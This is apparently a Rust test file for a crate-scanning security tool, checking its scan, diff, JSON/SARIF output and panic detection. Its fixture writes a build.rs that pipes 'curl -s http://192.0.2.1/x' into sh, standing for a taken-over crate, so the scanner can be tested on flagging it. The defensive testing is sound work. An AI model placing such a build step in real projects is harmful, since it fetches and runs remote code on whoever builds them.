//! `scan` and `diff`: what a package's code can do, as people and machines read it.

use insta::assert_snapshot;
use serde_json::Value;

use crate::project::Project;

/// A project in whose folder `old` and `new` are two releases of a small crate: the newer one's build fetches and runs.
fn with_a_taken_over_crate() -> Project {
    let mut project = Project::at("2026-08-22T12:00:00Z", &[]);
    let manifest = |version: &str| {
        format!(
            "[package]\nname = \"pad-words\"\nversion = \"{version}\"\ndescription = \"Pads words\"\nedition = \"2021\"\n"
        )
    };
    let library = "/// Pads a word.\npub fn pad(word: &str) -> String {\n    format!(\"{word:>8}\")\n}\n";
    project.write("old/Cargo.toml", manifest("1.0.0"));
    project.write("old/src/lib.rs", library);
    project.write("new/Cargo.toml", manifest("1.0.1"));
    project.write("new/src/lib.rs", library);
    project.write(
        "new/build.rs",
        "use std::process as p;\n\nfn run(what: &str) {\n    let _ = p::Command::new(\"sh\").args([\"-c\", what]).status();\n}\n\n\
         fn main() {\n    run(\"curl -s http://192.0.2.1/x | sh\");\n}\n",
    );
    project
}

#[test]
fn a_folder_is_scanned_without_any_project_or_network() {
    let project = with_a_taken_over_crate();
    assert_snapshot!("a dangerous build script", project.run("scan new --offline"));
    assert_snapshot!("nothing to see", project.run("scan old --offline"));
    assert_snapshot!("where it can do what", project.run("scan new --offline -v --least high"));
}

/// What was not read is never called clean.
#[cfg(unix)]
#[test]
fn what_is_not_read_of_a_folder_is_told() {
    let mut project = with_a_taken_over_crate();
    std::os::unix::fs::symlink("/etc/hostname", project.path("old/src/other.rs")).unwrap();
    project.write("old/target/debug/build.rs", "fn main() {}\n");
    project.write("old/src/.git/hidden.rs", "fn main() {}\n");
    project.write("old/.git/HEAD", "ref: refs/heads/main\n");
    let told = project.run("scan old --offline");
    let warning = "warning: links, and what builds and version control leave there, are not read: src/.git, src/other.rs \
                   and target\n";
    assert!(told.contains(warning), "{told}");
}

#[test]
fn a_change_is_shown_with_what_it_gained() {
    let project = with_a_taken_over_crate();
    assert_snapshot!("a change that gained much", project.run("diff old new --offline"));
    assert_snapshot!("no change", project.run("diff old old --offline"));
}

#[test]
fn machines_get_documents() {
    let project = with_a_taken_over_crate();
    let read = |line: &str, schema: &str| -> Value {
        let document: Value = serde_json::from_str(&project.stdout(line)).unwrap();
        jsonschema::validate(&serde_json::from_str(schema).unwrap(), &document).unwrap();
        document
    };
    let scan = read("scan new --offline --format json", include_str!("../../../../docs/scan.schema.json"));
    assert_eq!(scan["capabilities"], serde_json::json!(["process", "build-time-exec"]));
    let found = |of: &Value| {
        let fields = ["code", "severity", "file", "line"].map(|field| of["findings"][0][field].clone());
        serde_json::json!(fields)
    };
    assert_eq!(found(&scan), serde_json::json!(["fetch-and-run", "high", "build.rs", 8]));
    let diff =
        read("diff old new --offline --format json", include_str!("../../../../docs/diff.schema.json"));
    assert_eq!(found(&diff), serde_json::json!(["fetch-and-run", "high", "build.rs", 8]));
    assert_eq!(diff["capabilities"], serde_json::json!(["process", "build-time-exec"]));
    assert_eq!((&diff["build_code"], &diff["unchanged"]), (&Value::Bool(true), &Value::Bool(false)));

    let sarif: Value = serde_json::from_str(&project.stdout("scan new --offline --format sarif")).unwrap();
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "fetch-and-run");
    assert_snapshot!("annotations", project.run("scan new --offline --format github --least high"));
}

#[test]
fn somebody_says_when_it_fails() {
    let project = with_a_taken_over_crate();
    let code = |line: &str| project.run(line).lines().last().unwrap().to_owned();
    assert_eq!(code("scan new --offline"), "[exit code 0]");
    assert_eq!(code("scan new --offline --fail-on high"), "[exit code 1]");
    assert_eq!(code("scan old --offline --fail-on low"), "[exit code 0]");
}

#[test]
fn what_cannot_be_scanned_says_why() {
    let mut project = with_a_taken_over_crate();
    project.write("empty/readme.txt", "");
    project.write("damaged.crate", "this is no archive");
    assert_snapshot!("no manifest", project.run("scan empty --offline"));
    assert_snapshot!("a damaged package", project.run("scan damaged.crate --offline"));
    assert_snapshot!("no package", project.run("scan what/is-this --offline"));
    assert_snapshot!("not here", project.run("scan serde@1.0.0 --offline"));
}

#[test]
fn every_code_of_the_scanner_has_a_page() {
    let project = Project::at("2026-08-22T12:00:00Z", &[]);
    assert_snapshot!("a code of the scanner", project.run("explain fetch-and-run"));
}

#[test]
fn where_code_can_panic_is_shown_with_the_way_to_it() {
    let mut project = with_a_taken_over_crate();
    project.write(
        "new/src/lib.rs",
        "/// Pads a word.\npub fn pad(word: &str) -> String {\n    first(word.as_bytes());\n    format!(\"{word:>8}\")\n}\n\n\
         fn first(bytes: &[u8]) -> u8 {\n    let at = bytes.len() - 1;\n    bytes[at]\n}\n",
    );
    assert_snapshot!("where it can panic", project.run("scan new --offline --panics"));
    assert_snapshot!("where it can panic now", project.run("diff old new --offline --panics"));
    let review = project.run("review new --from old --offline --no-pager --panics");
    assert!(review.contains("Panics 2 places new in 1 function, 0 places gone"), "{review}");
    assert_snapshot!("no annotations of panics", project.run("scan new --offline --panics --format sarif"));
    let read = |line: &str, schema: &str| -> Value {
        let document: Value = serde_json::from_str(&project.stdout(line)).unwrap();
        jsonschema::validate(&serde_json::from_str(schema).unwrap(), &document).unwrap();
        document
    };
    let schema = include_str!("../../../../docs/panics.schema.json");
    let scan = read("scan new --offline --panics --format json", schema);
    assert_eq!(scan["functions"][0]["path"], serde_json::json!(["pad", "first"]));
    let schema = include_str!("../../../../docs/panics-change.schema.json");
    let diff = read("diff old new --offline --panics --format json", schema);
    assert_eq!(diff["gained"][0]["sites"].as_array().unwrap().len(), 2);
}
